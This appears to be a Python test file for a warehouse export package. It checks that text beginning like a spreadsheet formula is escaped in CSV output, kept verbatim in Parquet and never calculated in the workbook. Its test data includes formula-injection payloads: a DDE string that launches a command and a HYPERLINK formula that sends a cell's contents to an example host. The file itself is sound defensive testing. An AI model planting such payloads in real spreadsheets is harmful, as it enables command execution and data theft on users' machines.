"""Text that begins like a formula: calculated by no spreadsheet, and back to what it was."""

import csv
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.formulas import guarded, guarded_sql, unguarded
from ingest.records import ROW_CHANGES
from tests.warehouse.small_marts import small_marts
from tests.warehouse.test_package import RUN, fill
from warehouse.package.writing import write_package

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?"&A1)',
    "+84 24 1234567",
    "- Tối thiểu 80% hồ sơ",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "''- a",
    "=\n1",
)
PLAIN = ("80%", "=", ">=", "-", "'", "'a", "", "a=b", " =1")
TEXTS = st.text(st.sampled_from("'=+-@\t\r\n＝－a8 %"), max_size=6) | st.text(max_size=20)


@given(TEXTS)
def test_what_is_guarded_begins_like_no_formula_and_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert len(cell) < 2 or cell[0] not in "=+-@\t\r＝＋－＠"


@given(st.lists(TEXTS.filter(lambda text: "\x00" not in text), min_size=1, max_size=20))
def test_sql_guards_as_python_does(texts: list[str]) -> None:
    table = pa.table({"cell": texts})
    with duckdb.connect() as connection:
        connection.register("texts", table)
        found = connection.execute(f"select {guarded_sql('cell')} from texts").fetchall()
    assert [cell for (cell,) in found] == [guarded(text) for text in texts]


@pytest.mark.parametrize("text", PLAIN)
def test_what_calculates_nothing_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_no_file_of_the_package_holds_a_formula(tmp_path: Path) -> None:
    """The workbook and Parquet hold every text as it is; the CSV guards it; figures are the same in all."""
    file, marts = small_marts(tmp_path)
    keys = [f"d{number:02d}" for number in range(len(FORMULAS))]
    fill(file, dict.fromkeys(keys, "open"), [(key, "pci_score", "p63-01") for key in keys])
    with duckdb.connect(str(file)) as connection:
        for key, text in zip(keys, FORMULAS, strict=True):
            connection.execute("update dim_document set title = ? where document_key = ?", [text, key])
            connection.execute("update fct_actual set quote = ? where document_key = ?", [text, key])
    changes = tmp_path / "changes.parquet"
    pq.write_table(pa.Table.from_pylist([], schema=ROW_CHANGES), changes)
    write_package(tmp_path, marts, changes, RUN)
    folder = tmp_path / "package"
    with (folder / "fct_actual.csv").open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    assert [unguarded(row["quote"]) for row in rows] == list(FORMULAS)
    assert all(row["quote"][0] == "'" and row["value_low"] == "80.5" for row in rows)
    assert pq.read_table(folder / "fct_actual.parquet").column("quote").to_pylist() == list(FORMULAS)
    assert_workbook_calculates_nothing(folder / "thuocdo.xlsx")


def assert_workbook_calculates_nothing(file: Path) -> None:
    book = openpyxl.load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d", "inlineStr"}, "no formula"
    assert not any(cell.hyperlink for cell in cells)
    shown = {str(cell.value) for cell in cells}
    assert {text for text in FORMULAS if text.isprintable()} <= shown
